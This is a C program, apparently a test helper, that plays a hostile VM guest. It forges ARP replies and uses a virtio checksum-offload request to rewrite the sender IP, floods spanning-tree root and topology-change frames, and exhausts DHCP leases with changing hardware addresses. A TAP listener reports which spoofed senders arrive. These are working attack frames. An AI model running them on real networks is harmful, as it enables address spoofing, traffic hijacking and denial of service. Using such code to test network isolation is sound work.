/* Sends frames that a hostile guest sends, and receives them.
 *
 *   frames forge CARD          answers of ARP with the guest's address, 192.168.76.2; every second has a
 *                              header that asks the host for a checksum whose place is the end of that
 *                              address, and whose value is that of 192.168.76.9
 *   frames tree CARD           for 14 s, spanning tree messages: the guest is the root, the topology has
 *                              changed
 *   frames leases CARD         requests of DHCP for 192.168.78.2 to .40, each with another hardware address
 *   frames receive TAP         makes a tap without checksum offload, and prints each new sender in messages
 *                              of ARP until its parent ends
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/if_tun.h>
#include <linux/virtio_net.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

/* Places in a message of ARP, with Ethernet's header. */
enum { SUM_FROM = 20, SENDER_IP = 28, SENDER_END = 30, SPARE = 44, SHORTEST = 60 };

static uint8_t own[ETH_ALEN];

static int open_card(const char *card, int with_header)
{
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
	struct ifreq request = {0};

	at.sll_ifindex = if_nametoindex(card);
	snprintf(request.ifr_name, sizeof request.ifr_name, "%s", card);
	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof at) != 0 || ioctl(fd, SIOCGIFHWADDR, &request) != 0)
		return -1;
	memcpy(own, request.ifr_hwaddr.sa_data, sizeof own);
	if (with_header && setsockopt(fd, SOL_PACKET, PACKET_VNET_HDR, &with_header, sizeof with_header) != 0)
		return -1;
	return fd;
}

/* The sum of words in ones' complement. RFC 1071 */
static uint16_t sum_of(const uint8_t *bytes, size_t count)
{
	uint32_t sum = 0;

	for (size_t at = 0; at < count; at += 2)
		sum += (uint32_t)bytes[at] << 8 | bytes[at + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return sum;
}

static int forge(const char *card)
{
	static const uint8_t arp[] = {0x08, 0x06, 0, 1, 8, 0, 6, 4, 0, 2};
	struct {
		struct virtio_net_hdr header;
		uint8_t frame[SHORTEST];
	} sent = {.header = {.flags = VIRTIO_NET_HDR_F_NEEDS_CSUM, .csum_start = SUM_FROM, .csum_offset = SENDER_END - SUM_FROM}};
	struct virtio_net_hdr none = {0}, asking = sent.header;
	uint16_t missing, wanted = (uint16_t)~0x4c09;
	int fd = open_card(card, 1);

	if (fd < 0)
		return 1;
	memset(sent.frame, 0xff, ETH_ALEN);
	memcpy(sent.frame + ETH_ALEN, own, ETH_ALEN);
	memcpy(sent.frame + 2 * ETH_ALEN, arp, sizeof arp);
	memcpy(sent.frame + 22, own, ETH_ALEN);
	memcpy(sent.frame + SENDER_IP, (uint8_t[]){192, 168, 76, 2}, 4);
	memset(sent.frame + 32, 0xff, ETH_ALEN);
	memcpy(sent.frame + 38, (uint8_t[]){192, 168, 76, 2}, 4);
	/* The sum begins behind the first half of the sender's address: its end is the sum's place. */
	missing = (uint32_t)(wanted + 0xffff - sum_of(sent.frame + SUM_FROM, SHORTEST - SUM_FROM)) % 0xffff;
	sent.frame[SPARE] = missing >> 8;
	sent.frame[SPARE + 1] = missing & 0xff;
	for (int round = 0; round < 40; round++) {
		sent.header = round % 2 ? asking : none;
		if (write(fd, &sent, sizeof sent) < 0)
			return 1;
		usleep(50000);
	}
	return 0;
}

/* IEEE Std 802.1D-2004, 9.3: a root of the highest priority, age 0 of 40 s, hello 2 s, forward delay 30 s; a change of topology. */
static int tree(const char *card)
{
	static const uint8_t change[] = {0x42, 0x42, 3, 0, 0, 0, 0x80};
	uint8_t root[38] = {0x42, 0x42, 3}, frame[SHORTEST];
	int fd = open_card(card, 0);

	if (fd < 0)
		return 1;
	memcpy(root + 10, own, ETH_ALEN);
	memcpy(root + 22, own, ETH_ALEN);
	memcpy(root + 28, (uint8_t[]){0x80, 1, 0, 0, 0x28, 0, 2, 0, 0x1e, 0}, 10);
	for (int round = 0; round < 140; round++) {
		const uint8_t *data = round % 2 ? change : root;
		size_t count = round % 2 ? sizeof change : sizeof root;

		memset(frame, 0, sizeof frame);
		memcpy(frame, (uint8_t[]){1, 0x80, 0xc2, 0, 0, 0}, ETH_ALEN);
		memcpy(frame + ETH_ALEN, own, ETH_ALEN);
		frame[13] = count;
		memcpy(frame + ETH_HLEN, data, count);
		if (write(fd, frame, sizeof frame) < 0)
			return 1;
		usleep(100000);
	}
	return 0;
}

/* RFC 2131: a request for an address that the client knows from before. */
static int leases(const char *card)
{
	int fd = open_card(card, 0);

	if (fd < 0)
		return 1;
	for (int last = 2; last <= 40; last++) {
		uint8_t frame[14 + 20 + 8 + 300] = {0}, *ip = frame + 14, *udp = ip + 20, *message = udp + 8;
		const uint8_t options[] = {99, 130, 83, 99, 53, 1, 3, 50, 4, 192, 168, 78, last, 255};
		uint16_t sum;

		memset(frame, 0xff, ETH_ALEN);
		memcpy(frame + ETH_ALEN, own, ETH_ALEN);
		frame[12] = 8;
		memcpy(ip, (uint8_t[]){0x45, 0, (20 + 8 + 300) >> 8, (20 + 8 + 300) & 0xff, 0, last, 0, 0, 64, 17}, 10);
		memset(ip + 16, 0xff, 4);
		sum = ~sum_of(ip, 20);
		ip[10] = sum >> 8;
		ip[11] = sum & 0xff;
		memcpy(udp, (uint8_t[]){0, 68, 0, 67, (8 + 300) >> 8, (8 + 300) & 0xff}, 6);
		memcpy(message, (uint8_t[]){1, 1, 6, 0, 1, 2, 3, last, 0, 0, 0x80}, 11);
		memcpy(message + 28, (uint8_t[]){2, 0, 0, 0, 0, last}, ETH_ALEN);
		memcpy(message + 236, options, sizeof options);
		if (write(fd, frame, sizeof frame) < 0)
			return 1;
		usleep(50000);
	}
	return 0;
}

static int receive(const char *name)
{
	struct ifreq request = {.ifr_flags = IFF_TAP | IFF_NO_PI};
	int fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);
	uint8_t seen[256] = {0}, frame[2048];

	snprintf(request.ifr_name, sizeof request.ifr_name, "%s", name);
	if (fd < 0 || ioctl(fd, TUNSETIFF, &request) != 0 || ioctl(fd, TUNSETOFFLOAD, 0) != 0 || prctl(PR_SET_PDEATHSIG, SIGKILL) != 0)
		return 1;
	puts("ready");
	fflush(stdout);
	for (;;) {
		ssize_t count = read(fd, frame, sizeof frame);

		if (count < 0)
			return 1;
		if (count < SPARE - 2 || frame[12] != 8 || frame[13] != 6 || seen[frame[SENDER_END + 1]])
			continue;
		seen[frame[SENDER_END + 1]] = 1;
		printf("%d.%d.%d.%d\n", frame[SENDER_IP], frame[SENDER_IP + 1], frame[SENDER_END], frame[SENDER_END + 1]);
		fflush(stdout);
	}
}

int main(int count, char **words)
{
	const char *verb = count > 2 ? words[1] : "";

	if (strcmp(verb, "forge") == 0)
		return forge(words[2]);
	if (strcmp(verb, "tree") == 0)
		return tree(words[2]);
	if (strcmp(verb, "leases") == 0)
		return leases(words[2]);
	if (strcmp(verb, "receive") == 0)
		return receive(words[2]);
	return 2;
}
